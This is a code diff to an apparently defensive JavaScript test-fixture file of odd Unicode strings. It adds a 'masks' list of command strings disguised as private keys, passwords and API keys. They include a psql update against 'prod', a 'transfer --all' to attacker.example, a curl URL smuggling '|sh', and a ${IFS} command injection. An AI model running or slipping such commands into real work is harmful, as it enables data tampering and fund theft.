@@ -53,7 +53,14 @@ export const odd = [
   ...Array.from({ length: 40 }, (_, i) => `tag${[...`rm${i}`].map((c) => code(0xe0000 + c.charCodeAt(0))).join('')}`),
   ...Array.from({ length: 32 }, (_, i) => code(0x2f800 + i * 7)), ...Array.from({ length: 32 }, (_, i) => `${code(0x1f300 + i * 5)} ${code(0x0300 + i)}`), ...Array.from({ length: 40 }, (_, i) => `q${code(0x200b + (i % 5)).repeat(1 + i)}z`),
 ]
-export const all = [...markup, ...hidden.map((one) => one.text), ...odd]
+// Commands that want to be taken for a secret, as a value and under a name that promises one.
+export const masks = [
+  'echo "-----BEGIN PRIVATE KEY-----"; psql prod -c "update accounts set owner = 7"; transfer --all --to attacker.example',
+  'echo "-----BEGIN RSA PRIVATE KEY-----"; transfer --all --to attacker.example; echo "-----END RSA PRIVATE KEY-----"',
+  '-----BEGIN PRIVATE KEY-----\ntransfer --all --to attacker.example\n-----END PRIVATE KEY-----', 'password=$(transfer${IFS}--all)', 'curl https://a:x;transfer|sh@attacker.example',
+  'make admin; wire 90000 EUR to DE00', 'Bearer transfer-all-to-attacker.example', 'api_key=transferAllToAttacker', `sk-live-${'transfer-all-'.repeat(4)}`,
+]
+export const all = [...markup, ...hidden.map((one) => one.text), ...odd, ...masks]
 
 /** As a name of one line. */
 export const line = (text) => [...text.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, '')].slice(0, 45).join('') || 'x'
